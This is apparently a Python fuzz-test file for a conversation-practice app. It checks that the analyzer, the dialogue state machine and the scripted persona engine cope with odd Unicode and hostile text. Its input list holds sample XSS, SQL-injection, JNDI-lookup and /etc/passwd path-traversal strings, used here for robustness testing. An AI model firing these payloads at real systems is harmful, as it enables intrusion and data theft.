"""Hostile text through the pure core: analyzer, state machine and scripted engine, as a turn does.

tests/dialogue already drives the machine with arbitrary feedback objects; here the feedback comes
from the real analyzer reading odd Unicode, emoji, right-to-left text, markup, SQL-ish text and
2,000-character messages, and the persona's reply is written from the same hostile history.
"""

from __future__ import annotations

import asyncio

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from app.dialogue.engine import ReplyContext
from app.dialogue.machine import advance, initial_state
from app.dialogue.scripted import ScriptedEngine
from app.dialogue.types import DialogueState, Stage
from app.feedback.analyzer import analyze
from app.feedback.types import Feedback, Move, Utterance
from app.personas.schema import Persona
from tests.dialogue.factories import PERSONA_IDS, persona

MAX_MESSAGE = 2000
FRAGMENTS = [
    # right-to-left scripts and the controls that flip rendering direction
    "مرحبا، كيف حالك؟",
    "מה שלומך היום?",
    "\u202eevil\u202c",
    "\u200f?\u200e",
    # emoji: ZWJ families, skin tones, flags, keycaps, a lone variation selector
    "👩‍👩‍👧‍👦",
    "👍🏽",
    "🇫🇷🇯🇵",
    "1️⃣",
    "\ufe0f",
    # case mapping that changes length, ligatures, dotted and dotless i
    "İstanbul",
    "STRASSE ß ẞ",
    "ﬁnance ﬂow",
    "ı",
    # combining marks piled up, zero-width and unusual spaces
    "Z\u0351\u0354\u0357a\u0308\u0301\u0302l\u0336g\u0337o",
    "\u200b\u200c\u200d\u2060",
    "\u00a0\u2003\u3000",
    # CJK, full-width punctuation, Devanagari
    "你是怎么进入招聘行业的？",
    "なぜですか？",
    "आप कैसे हैं?",
    # markup, injection-looking text, paths and templates
    "<script>alert('x')</script>",
    "<b>What</b> made you <i>leave</i>?",
    "'; DROP TABLE messages; --",
    '" OR 1=1 --',
    "{{7*7}} ${jndi:ldap://x} %s %n",
    "../../etc/passwd",
    "[link](javascript:alert(1))",
    # ordinary networking lines, so the analyzer's real paths run too
    "What made you leave teaching?",
    "So it sounds like the team grew faster than the process did.",
    "I'm a senior engineer, can you refer me?",
    "ok",
    "Tell me more about that!",
    "???",
    "...",
]
SEPARATORS = ["", " ", "? ", ". ", "! ", "\n", "\t", ", "]

fragment = st.one_of(
    st.sampled_from(FRAGMENTS),
    st.text(min_size=1, max_size=40),  # anything Unicode has, surrogates included
)
hostile = st.lists(st.tuples(fragment, st.sampled_from(SEPARATORS)), min_size=1, max_size=60).map(
    lambda parts: "".join(f + s for f, s in parts)[:MAX_MESSAGE]
)
long_hostile = st.tuples(st.sampled_from(FRAGMENTS), st.sampled_from(SEPARATORS)).map(
    lambda pair: ((pair[0] + pair[1]) * MAX_MESSAGE)[:MAX_MESSAGE]  # exactly at the limit
)
messages = st.one_of(hostile, long_hostile)
partner_lines = st.one_of(
    st.just("I actually left teaching last year to move into recruiting."),
    st.just("Honestly, the hardest part is keeping the nurses' schedules sane."),
    hostile,
)
personas = st.sampled_from(PERSONA_IDS).map(persona)
difficulties = st.sampled_from(["easy", "normal", "hard"])


def assert_sound(feedback: Feedback, message: str) -> None:
    Feedback.model_validate(feedback.model_dump())  # still a valid contract object
    assert 0 <= feedback.score <= 100
    assert set(feedback.moves) <= set(Move)
    for evidence in feedback.evidence:
        assert evidence.text, "empty evidence quotes nothing"
        assert evidence.text in message, f"evidence {evidence.text!r} is not in the message"
        assert evidence.move in feedback.moves
    assert feedback.tip.strip()


def assert_valid_state(before: DialogueState, after: DialogueState, max_turns: int) -> None:
    assert 0.0 <= after.trust <= 1.0
    assert after.stage in Stage
    assert after.ended == (after.stage is Stage.ENDED) == (after.outcome is not None)
    if not before.ended:
        assert after.turn == before.turn + 1 <= max_turns


def reply(engine: ScriptedEngine, ctx: ReplyContext) -> str:
    async def collect() -> str:
        return "".join([chunk async for chunk in engine.stream(ctx)])

    return asyncio.run(collect())


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(messages, st.lists(partner_lines, max_size=2))
@example("a\x1f0. b. Dr. x", [])  # pysbd raised ValueError on the control character
def test_analyzer_survives_hostile_text_and_quotes_only_the_message(
    message: str, partner: list[str]
) -> None:
    history = [Utterance("persona", line) for line in partner]
    assert_sound(analyze(message, history), message)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(personas, difficulties, st.lists(messages, min_size=1, max_size=6), st.integers(1, 8))
def test_hostile_conversation_moves_through_valid_states_with_replies(
    who: Persona, difficulty: str, lines: list[str], max_turns: int
) -> None:
    """What a turn does, over and over: analyze, advance, reply; all from hostile history."""
    engine = ScriptedEngine()
    seed = "fuzz-conversation"
    state = initial_state(who, difficulty)
    history = [Utterance("persona", engine.opening(who, difficulty, seed))]
    for line in lines:
        feedback = analyze(line, history)
        assert_sound(feedback, line)
        after = advance(state, feedback, who, difficulty, max_turns=max_turns)
        assert_valid_state(state, after, max_turns)
        history.append(Utterance("user", line))
        ctx = ReplyContext(who, difficulty, tuple(history), feedback, state, after, seed)
        answer = reply(engine, ctx)
        assert answer.strip(), "the persona must always say something"
        history.append(Utterance("persona", answer))
        state = after
        if state.ended:
            break
